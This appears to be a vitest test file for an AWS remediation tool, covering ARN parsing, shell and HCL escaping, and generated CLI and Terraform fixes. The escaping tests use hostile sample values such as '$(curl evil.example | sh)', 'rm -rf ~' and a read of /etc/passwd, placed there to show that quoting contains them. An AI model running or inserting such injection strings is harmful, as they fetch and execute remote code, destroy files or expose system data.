import { execFileSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { parseArn } from "@/lib/inventory/arn";
import { idsFromArn } from "./arn";
import { parseCliSnippet } from "./cli-parse";
import { parseHclResources } from "./hcl";
import { placeholderValues, readerToken, remediationFor } from "./index";
import { hclStringBody, shellQuote } from "./shell";

describe("idsFromArn", () => {
  it.each([
    [
      "arn:aws:elasticache:us-east-1:210987654321:replicationgroup:orders-prod",
      { resourceId: "orders-prod", replicationGroupId: "orders-prod" },
    ],
    [
      "arn:aws:elasticache:us-east-1:210987654321:cluster:storefront-pages",
      { resourceId: "storefront-pages", cacheClusterId: "storefront-pages" },
    ],
    [
      "arn:aws:elasticache:us-east-1:210987654321:snapshot:checkout-legacy-pre-upgrade",
      { resourceId: "checkout-legacy-pre-upgrade", snapshotName: "checkout-legacy-pre-upgrade" },
    ],
    [
      "arn:aws:elasticache:us-east-1:210987654321:usergroup:sessions-rbac",
      { resourceId: "sessions-rbac", userGroupId: "sessions-rbac" },
    ],
    [
      "arn:aws:elasticache:eu-west-1:210987654321:serverlesscache:sessions-eu",
      { resourceId: "sessions-eu", serverlessCacheName: "sessions-eu" },
    ],
    [
      "arn:aws:cognito-idp:us-east-1:210987654321:userpool/us-east-1_Xk82mPqR3",
      { resourceId: "us-east-1_Xk82mPqR3", userPoolId: "us-east-1_Xk82mPqR3" },
    ],
    [
      "arn:aws:cognito-idp:us-east-1:210987654321:userpool/us-east-1_Xk82mPqR3/client/1k7d3f9p2w8r5t0y4u6i2o9e1q",
      {
        resourceId: "1k7d3f9p2w8r5t0y4u6i2o9e1q",
        userPoolId: "us-east-1_Xk82mPqR3",
        clientId: "1k7d3f9p2w8r5t0y4u6i2o9e1q",
      },
    ],
    [
      "arn:aws:cognito-identity:ap-southeast-2:210987654321:identitypool/ap-southeast-2:4b9e2d7c-1a6f-4c38-b5e0-8d3f6a2c9e71",
      {
        resourceId: "ap-southeast-2:4b9e2d7c-1a6f-4c38-b5e0-8d3f6a2c9e71",
        identityPoolId: "ap-southeast-2:4b9e2d7c-1a6f-4c38-b5e0-8d3f6a2c9e71",
      },
    ],
    [
      "arn:aws:connect:us-east-1:210987654321:instance/4f7c2a91-6d3b-4e58-a0c7-2b9e8f1d5a63/storage-config/a1f3c5e7",
      { resourceId: "a1f3c5e7", instanceId: "4f7c2a91-6d3b-4e58-a0c7-2b9e8f1d5a63", associationId: "a1f3c5e7" },
    ],
    [
      "arn:aws:connect:us-east-1:210987654321:instance/4f7c2a91-6d3b-4e58-a0c7-2b9e8f1d5a63/security-profile/0a4e8c2f",
      {
        resourceId: "0a4e8c2f",
        instanceId: "4f7c2a91-6d3b-4e58-a0c7-2b9e8f1d5a63",
        securityProfileId: "0a4e8c2f",
      },
    ],
    [
      "arn:aws:s3:::northwind-connect-reports-use1",
      { resourceId: "northwind-connect-reports-use1", bucket: "northwind-connect-reports-use1" },
    ],
    [
      "arn:aws:kinesis:us-east-1:210987654321:stream/northwind-ctr-use1",
      { resourceId: "northwind-ctr-use1", streamName: "northwind-ctr-use1" },
    ],
    [
      "arn:aws:firehose:eu-central-1:210987654321:deliverystream/northwind-ctr-archive-euc1",
      { resourceId: "northwind-ctr-archive-euc1", deliveryStreamName: "northwind-ctr-archive-euc1" },
    ],
    [
      "arn:aws:kms:us-east-1:210987654321:key/c47a0e93-2b61-4f5d-8e1a-9d36b8f4c702",
      { resourceId: "c47a0e93-2b61-4f5d-8e1a-9d36b8f4c702", keyId: "c47a0e93-2b61-4f5d-8e1a-9d36b8f4c702" },
    ],
    [
      "arn:aws:cloudtrail:us-east-1:210987654321:trail/northwind-account-audit",
      { resourceId: "northwind-account-audit", trailName: "northwind-account-audit" },
    ],
    ["arn:aws:iam::210987654321:user/pos-sync:access-key-1", { resourceId: "pos-sync", userName: "pos-sync" }],
    [
      "arn:aws:iam::210987654321:user/ci-deploy:inline-policy/assume-deploy-role",
      { resourceId: "ci-deploy", userName: "ci-deploy" },
    ],
    [
      "arn:aws:iam::210987654321:user/division/abc/marketing-export",
      { resourceId: "marketing-export", userName: "marketing-export" },
    ],
    ["arn:aws:iam::210987654321:root", { resourceId: "root" }],
    [
      "arn:aws:iam::210987654321:policy/LegacyFullAccess",
      {
        resourceId: "arn:aws:iam::210987654321:policy/LegacyFullAccess",
        policyArn: "arn:aws:iam::210987654321:policy/LegacyFullAccess",
      },
    ],
    [
      "arn:aws:personalize:us-east-1:210987654321:dataset-group/email-campaign-segments",
      { resourceId: "email-campaign-segments" },
    ],
    ["not an arn", {}],
    ["arn:aws:macie2:eu-west-1:210987654321:session", {}],
  ])("%s", (arn, expected) => {
    expect(idsFromArn(arn)).toEqual(expected);
  });

  it("splits the account and Region out of an ARN", () => {
    expect(parseArn("arn:aws:elasticache:us-east-1:210987654321:replicationgroup:orders-prod")).toEqual({
      partition: "aws",
      service: "elasticache",
      region: "us-east-1",
      accountId: "210987654321",
      resource: "replicationgroup:orders-prod",
    });
  });
});

/** What bash makes of a word: run `printf %s <word>` and read it back. */
function bashSees(word: string): string {
  return execFileSync("bash", ["-c", `printf %s ${word}`], { encoding: "utf8" });
}

describe("shellQuote", () => {
  it.each([
    "orders-prod",
    "us-east-1_Xk82mPqR3",
    "arn:aws:s3:::northwind-exports",
    "name with spaces",
    "$(touch /tmp/safekeep-pwned)",
    "`id`",
    "it's; rm -rf ~",
    'double "quotes" and \\ backslash',
    "line\nbreak",
    "*glob?",
    "",
  ])("keeps %j one literal word for bash", (value) => {
    expect(bashSees(shellQuote(value))).toBe(value);
  });

  it("leaves harmless ids bare and quotes the rest", () => {
    expect(shellQuote("orders-prod")).toBe("orders-prod");
    expect(shellQuote("a b")).toBe("'a b'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
  });
});

describe("hclStringBody", () => {
  it("escapes quotes, backslashes and template sequences", () => {
    expect(hclStringBody('a "b" \\ ${var.x} %{if}')).toBe('a \\"b\\" \\\\ $${var.x} %%{if}');
  });
});

describe("remediationFor", () => {
  const evil = "catalog $(curl evil.example | sh) 'prod' ${file(\"/etc/passwd\")}";

  it("fills the row's ids and Region, quoting a hostile name in shell and in HCL", () => {
    const filled = remediationFor(
      { id: "cognito.user-pool-deletion-protection" },
      {
        resourceArn: "arn:aws:cognito-idp:eu-west-1:210987654321:userpool/eu-west-1_Rb6vJk2Wn",
        region: "eu-west-1",
        name: evil,
      },
    )!;
    expect(filled.cli[0]!.code).toBe(
      "aws cognito-idp update-user-pool --region eu-west-1 --user-pool-id eu-west-1_Rb6vJk2Wn --deletion-protection ACTIVE",
    );
    const hcl = filled.terraform[0]!.code;
    expect(hcl).toContain(
      `name                = "catalog $(curl evil.example | sh) 'prod' $\${file(\\"/etc/passwd\\")}"`,
    );
    expect(parseHclResources(hcl)[0]!.arguments).toEqual(["name", "deletion_protection"]);
    expect(filled.notice).toMatch(/review/);
  });

  it("keeps a hostile value one argument of the command", () => {
    const filled = remediationFor(
      { id: "xc.pii-in-names-tags" },
      { resourceArn: "arn:aws:iam::210987654321:role/x", region: "global", field: `tag "${evil}"` },
    )!;
    const [command] = parseCliSnippet(filled.cli[0]!.code);
    const tagKeys = command!.flags.find((f) => f.name === "tag-keys")!.value!;
    expect(bashSees(tagKeys)).toBe(evil);
    // Global resources take no Region flag.
    expect(filled.cli[0]!.code).not.toContain("--region");
  });

  it("chooses the variant for the row: a Kinesis stream and a Firehose stream differ", () => {
    const kinesis = remediationFor(
      { id: "connect.data-streams-encryption" },
      { resourceArn: "arn:aws:kinesis:us-east-1:210987654321:stream/northwind-agent-events-use1", region: "us-east-1" },
    )!;
    const firehose = remediationFor(
      { id: "connect.data-streams-encryption" },
      {
        resourceArn: "arn:aws:firehose:eu-central-1:210987654321:deliverystream/northwind-ctr-archive-euc1",
        region: "eu-central-1",
      },
    )!;
    expect(kinesis.cli.map((s) => s.code.split(" ").slice(0, 3).join(" "))).toEqual([
      "aws kinesis start-stream-encryption",
    ]);
    expect(firehose.cli.map((s) => s.code.split(" ").slice(0, 3).join(" "))).toEqual([
      "aws firehose start-delivery-stream-encryption",
    ]);
    expect(firehose.cli[0]!.code).toContain("--delivery-stream-name northwind-ctr-archive-euc1");
    expect(firehose.terraform.map((s) => parseHclResources(s.code)[0]!.type)).toEqual([
      "aws_kinesis_firehose_delivery_stream",
    ]);
  });

  it("takes values from the evidence: the storage resource type of a Connect storage config", () => {
    const filled = remediationFor(
      { id: "connect.recordings-transcripts-kms" },
      {
        resourceArn: "arn:aws:connect:us-east-1:210987654321:instance/4f7c2a91/storage-config/b2e4d6f8",
        region: "us-east-1",
        evidence: { instanceId: "4f7c2a91", storageResourceType: "CHAT_TRANSCRIPTS" },
      },
    )!;
    expect(filled.cli[1]!.code).toBe(
      "aws connect update-instance-storage-config --region us-east-1 --instance-id 4f7c2a91 \\\n" +
        "  --association-id b2e4d6f8 --resource-type CHAT_TRANSCRIPTS --storage-config file://storage-config.json",
    );
    expect(filled.cli[1]!.toReplace).toEqual([]);
  });

  it("without a row, shows the control-level snippets with placeholders to replace", () => {
    const filled = remediationFor({ id: "xc.kms-key-rotation" })!;
    expect(filled.cli[0]!.code).toBe(
      "aws kms enable-key-rotation --region REGION --key-id KEY_ID --rotation-period-in-days 365",
    );
    expect(filled.cli[0]!.toReplace).toEqual(["REGION", "KEY_ID"]);
    const rds = remediationFor({ id: "elasticache.rg-at-rest-encryption" })!;
    expect(rds.inPlace).toBe(false);
    expect(rds.steps).toMatch(/cannot be switched on/);
    expect(rds.cli.at(-1)!.toReplace).toEqual(["REGION", "NEW_GROUP_ID", "SNAPSHOT_NAME", "NODE_TYPE", "KMS_KEY_ARN"]);
  });

  it("names the values still to replace after filling", () => {
    const filled = remediationFor(
      { id: "xc.cloudtrail-kms" },
      { resourceArn: "arn:aws:cloudtrail:us-east-1:210987654321:trail/northwind-account-audit", region: "us-east-1" },
    )!;
    expect(filled.cli[0]!.code).toBe(
      "aws cloudtrail update-trail --region us-east-1 --name northwind-account-audit --kms-key-id KMS_KEY_ARN",
    );
    expect(filled.cli[0]!.toReplace).toEqual(["KMS_KEY_ARN"]);
  });

  it("is undefined for an unknown control", () => {
    expect(remediationFor({ id: "xc.nope" })).toBeUndefined();
  });

  it("turns a missing placeholder into capitals and takes only string evidence", () => {
    expect(readerToken("storageResourceType")).toBe("STORAGE_RESOURCE_TYPE");
    const values = placeholderValues({
      resourceArn: "arn:aws:elasticache:us-east-1:210987654321:usergroup:sessions-rbac",
      region: "us-east-1",
      evidence: { engine: "redis", attachedTo: ["sessions-prod"], count: 2, empty: "" },
    });
    expect(values).toMatchObject({ engine: "redis", userGroupId: "sessions-rbac", accountId: "210987654321" });
    expect(values).not.toHaveProperty("attachedTo");
    expect(values).not.toHaveProperty("count");
    expect(values).not.toHaveProperty("empty");
  });
});

describe("elasticache.rg-transit-encryption: the path depends on the engine", () => {
  const arn = "arn:aws:elasticache:us-east-1:210987654321:replicationgroup:checkout-legacy";
  const labels = (evidence: Record<string, string | boolean>) =>
    remediationFor(
      { id: "elasticache.rg-transit-encryption" },
      { resourceArn: arn, region: "us-east-1", evidence },
    )!.cli.map((s) => s.label);

  it.each([
    [
      { engine: "redis", engineVersion: "7.1.0", transitEncryptionMode: "" },
      ["Turn on TLS in preferred mode", "Once every client uses TLS, require it"],
    ],
    [
      { engine: "valkey", engineVersion: "7.2.6", transitEncryptionMode: "preferred" },
      ["Once every client uses TLS, require it"],
    ],
    [
      { engine: "redis", engineVersion: "6.2.6" },
      ["Older engine: take a snapshot of the group", "Restore it into a new encrypted replication group"],
    ],
    [
      { engine: "redis" },
      [
        "Turn on TLS in preferred mode",
        "Once every client uses TLS, require it",
        "Older engine: take a snapshot of the group",
        "Restore it into a new encrypted replication group",
      ],
    ],
  ])("%j", (evidence, expected) => {
    expect(labels(evidence)).toEqual(expected);
  });
});
